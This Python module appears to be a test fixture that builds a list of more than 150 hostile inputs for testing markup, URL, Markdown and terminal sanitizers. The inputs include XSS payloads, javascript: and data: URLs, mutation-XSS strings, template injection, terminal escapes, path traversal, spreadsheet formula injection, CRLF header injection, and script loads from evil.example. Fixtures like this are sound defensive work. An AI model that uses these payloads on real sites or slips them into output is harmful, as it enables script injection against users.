"""Attacks on markup, scripts, URLs, layouts and terminals, at least 150, one or more a line."""

from __future__ import annotations

CALL = "window.pwned=1"
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
    "onpointerenter", "onscroll", "onwheel", "oncopy", "oninput", "onplay", "onloadstart", "onunload",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "marquee",
    "input autofocus", "select autofocus", "object data=x", "embed src=x", "math", "style", "form",
)  # fmt: skip
_URLS = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", " javascript:{c}",
    "\x01javascript:{c}", "javascript&colon;{c}", "&#106;avascript:{c}", "data:text/html,<script>{c}</script>",
    "vbscript:{c}", "data:image/svg+xml,<svg onload={c}>", "//evil.example/x.js", "blob:{c}", "file:///etc/passwd",
)  # fmt: skip
_BREAKS = (
    "</script>", "</textarea>", "</title>", "</style>", "</pre>", "</code>", "-->", "]]>", "</noscript>",
    "</template>", "</svg>", "</math>", "</xmp>", "</iframe>", "'>", '">', "`>", "\"'>", "</select>", "</bdi>",
)  # fmt: skip
_MORE = (
    "<script>{c}</script>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={c}&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * {{background:url(javascript:{c})}}</style>",
    "<div style=\"background:url(javascript:{c});position:fixed;inset:0\">", "<form action=//evil.example><button>go",
    "<button formaction=javascript:{c}>x", "<a id=trustedTypes name=data><a id=data name=answer href=x:y>",
    "<iframe srcdoc='<script>parent.{c}</script>'>", "<object type=text/html data='data:text/html,<script>{c}</script>'>",
    "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "{{% raw %}}{{{{7*7}}}}", "<%= {c} %>", "#{{{c}}}",
    "\"autofocus onfocus={c} x=\"", "' onmouseover={c} '", "\" onerror={c} src=x \"", "` onload={c} `",
    "<img src=x:x onerror=&#x77;indow.pwned=1>", "<x onclick={c} contenteditable autofocus onfocus={c}>y",
    "<a href=\"javas&#99;ript:{c}\">x</a>", "<!--<img src=\"--><img src=x onerror={c}//\">", "<![CDATA[<script>{c}</script>]]>",
    "\u202e\u2066txt.exe\u2069", "\x1b]8;;javascript:{c}\x07x\x1b]8;;\x07", "\x1b[2J\x1b[31mred", "\x00<script\x00>{c}</script>",
    "\ufeff<script>{c}</script>", "\u2028{c}\u2029", "<\u200bscript>{c}</script>", "＜script＞{c}＜/script＞",
    "![x](javascript:{c})", "[x](javascript:{c})", "[x](  javascript:{c})", "[x](&#106;avascript:{c})", "<javascript:{c}>",
    "[x]: javascript:{c}\n\n[x]", "![x\" onerror={c} \"](y)", "[x](y \"' onmouseover={c}\")", "```\"><img src=x onerror={c}>\nx\n```",
    "```html onload={c}\n<img src=x onerror={c}>\n```", "| a |\n|---|\n| <img src=x onerror={c}> |", "<details open ontoggle={c}>",
    "<https://a.example/\"onmouseover={c}>", "# <svg onload={c}>", "> <svg onload={c}>", "* <svg onload={c}>", "`<svg onload={c}>`",
    "~~~\n</code></pre><script>{c}</script>\n~~~", "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;", "__proto__", "constructor",
    "%3Cscript%3E{c}%3C/script%3E", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript\\x3e", "eval({c})", "=cmd|'/c calc'!A1",
    "../../../../etc/passwd", "{{\"__proto__\":{{\"pwned\":1}}}}", "a" * 3000, "\U000e0041\U000e0042", "\r\nSet-Cookie: pwned=1\r\n\r\n",
)  # fmt: skip

ATTACKS: tuple[str, ...] = (
    *(f"<{tag} {event}={CALL}>" for tag, event in zip(_TAGS * 3, _EVENTS * 3, strict=False)),
    *(f"<a href=\"{url.format(c=CALL)}\">x</a>" for url in _URLS),
    *(f"[x]({url.format(c=CALL)})" for url in _URLS),
    *(f"{end}<img src=x onerror={CALL}>" for end in _BREAKS),
    *(text.format(c=CALL) for text in _MORE),
)
